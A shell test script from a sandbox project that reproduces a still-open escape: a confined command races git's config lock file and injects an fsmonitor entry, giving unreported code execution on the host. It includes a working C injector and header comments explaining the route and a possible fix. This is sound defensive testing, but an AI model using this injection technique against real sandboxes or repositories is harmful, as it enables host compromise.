#!/bin/bash
# NOT IN TESTS: this route is open on main and its fix is not small (see
# below); the script stays here to reproduce it and to become a test once
# it is closed.
#
# Escape classes H1 (linux-bwrap) and H7 (linux-landlock): a write into a
# protected file by way of the HOST's own temporary file. git config (and
# git remote, git branch --set-upstream-to, ...) on the host writes the new
# .git/config into .git/config.lock and renames it over .git/config. The
# lock is an ordinary new file in .git, which the command can write: the
# command polls for .git/config.lock, and the moment it exists appends a
# long newline padding and a [core] fsmonitor section. git's own writes go
# at git's offsets from 0 and overwrite the padding; the section stays
# after git's content. git renames the lock over .git/config:
#  - linux-bwrap: the watcher reads the new file after the rename and takes
#    all of it for the host's content (it cannot tell who wrote the lock
#    before the rename), covers it, reports nothing;
#  - linux-landlock: the supervisor let the command write-open
#    .git/config.lock (not a protected name); what it wrote is in the
#    file the host renames, and the descriptor it kept still writes the new
#    .git/config after the rename (nothing is checked on a write).
# The next git command on the host runs the fsmonitor: code execution on
# the host, unreported. Measured on main: bwrap 5 of 5, landlock 3-4 of 5,
# with one `git config` on the host during each run.
# linux-landlock is closed by the supervisor refusing the lock of a
# protected file (tests/escape/0910-red-lockfile-landlock.sh, in TESTS).
# linux-bwrap is still open: the command writes the lock in its own
# mount namespace, where nothing mediates an open, and the host must keep
# being able to create the lock (no placeholder on its name). A fix has to
# tell, at the rename, that someone else wrote the file the host renamed
# (e.g. the watcher counting IN_CLOSE_WRITE events on the source name since
# its IN_CREATE: more than the host's one close means a second writer;
# restore the previous content and report). sed -i's and editors' random
# temporary names in $HOME are the same route on both backends.
. "$(dirname "$0")/lib.sh"
need_bwrap
LL="$top_builddir/backends/linux-landlock/.libs/linux_landlock.so"
BW="$top_builddir/backends/linux-bwrap/.libs/linux_bwrap.so"
CC=${CC:-cc}
command -v git >/dev/null 2>&1 && command -v "$CC" >/dev/null 2>&1 ||
	{ skip_rest 1 "git or a C compiler missing"; echo "1..$_tap_n"; exit 0; }
cat > "$WORK/inj.c" <<'EOF'
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	static char buf[20000];
	size_t n;
	int fd;

	memset(buf, '\n', 16384);
	n = 16384 + (size_t)snprintf(buf + 16384, sizeof(buf) - 16384,
				     "[core]\n\tfsmonitor = \"touch %s; false\"\n", argv[1]);
	close(open("started", O_WRONLY | O_CREAT, 0644));
	for (;;) {
		fd = open(".git/config.lock", O_WRONLY | O_APPEND);
		if (fd >= 0)
			break;
		if (access("stop", F_OK) == 0)
			return 1;
	}
	if (write(fd, buf, n) != (ssize_t)n)
		return 2;
	close(fd);
	return 0;
}
EOF
"$CC" -O2 -o "$WORK/inj" "$WORK/inj.c" || diag "cannot build the injector"
chmod 755 "$WORK" "$WORK/inj" 2>/dev/null
P="$WORK/proj"
S=$(fsjson s '{"denyRead":["~/.ssh","~/.aws"],"allowWrite":["."],"denyWrite":[]}')
try() { # try BACKEND: 1 when the command's fsmonitor reached .git/config
	local be=$1 i
	cd "$WORK" && rm -rf "$P" && mkdir -p "$P" && cd "$P" && git init -q . || return 0
	rm -f "$WORK/PWNED"
	( trap - EXIT; exec timeout -k 5 60 "$SRT" --backend="$be" -s "$S" -c "$WORK/inj $WORK/PWNED; sleep 1" \
		>"$WORK/bg.out" 2>&1 </dev/null ) &
	local pid=$!
	wait_for "$P/started" 100
	git config user.email host@example.org
	sleep 0.3; touch "$P/stop"; wait "$pid"
	git status >/dev/null 2>&1
	grep -q fsmonitor "$P/.git/config" || test -e "$WORK/PWNED"
}
for be in "$BW"; do
	hits=0
	for n in 1 2 3 4 5; do
		try "$be" && hits=$((hits + 1))
	done
	attempt "$([ "$be" = "$BW" ] && echo H1 || echo H7)" \
		"$(basename "$be" .so): no fsmonitor of the command's in .git/config after the host's git config ($hits of 5 got in)" \
		test "$hits" = 0
done
echo "1..$_tap_n"
